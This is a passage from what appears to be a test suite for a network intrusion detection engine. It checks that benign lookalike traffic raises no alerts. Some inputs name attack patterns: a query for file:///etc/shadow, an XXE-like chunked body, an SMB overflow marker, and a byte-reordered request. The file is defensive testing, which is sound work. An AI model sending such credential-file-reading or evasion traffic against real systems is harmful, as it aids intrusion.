    ["SMB header without the overflow bytes", 445, (c) => c.sendClient(0, SMB.req.replace("\xde\xad\xbe\xef", "\xde\xad\xbe\xee"))],
    ["XXE words in a query, not the body", 80, (c) =>
      c.sendClient(0, `GET /docs?q=file:///etc/shadow HTTP/1.1\r\n${HOST}\r\n`)],
    ["chunked body without the attack", 80, (c) => c.sendClient(0, postChunked(chunked("<r>file:/// and /etc/shadow apart</r>", [5, 17])))],
    ["gzip response with a near miss", 80, (c) => {
      c.sendClient(0, DOWNLOAD_REQ);
      c.sendServer(0, gzResponse(gzBenign, null));
    }],
    ["plain response mentioning the marker name in a header", 80, (c) => {
      c.sendClient(0, DOWNLOAD_REQ);
      c.sendServer(0, "HTTP/1.1 200 OK\r\nX-Info: EVIL-MARKER-7f3a\r\nContent-Length: 2\r\n\r\nok");
    }],
    ["benign request with same-byte retransmissions and 1-byte reordering", 80, (c) => {
      const req = `GET /etc-passwd-guide HTTP/1.1\r\n${HOST}\r\n`;
      const cuts = [...Array(req.length - 1).keys()].map((i) => i + 1);
      c.sendClientPieces(0, req, cuts, permutation(req.length, prng(5)));
      c.sendClient(0, req);
    }],
  ];
  for (const [name, dport, send] of cases) {
    r.reset();
    const c = new TcpConversation(r, { dport });
    c.handshake();
    send(c);
    if (r.alerts.length > 0) failures.push(`${name}: ${fmtAlerts(r)}`);
    if (r.droppedCount() > 0) failures.push(`${name}: ${r.droppedCount()} packet(s) dropped`);
  }
  noFailures(failures, "benign lookalikes");
});

test.run();
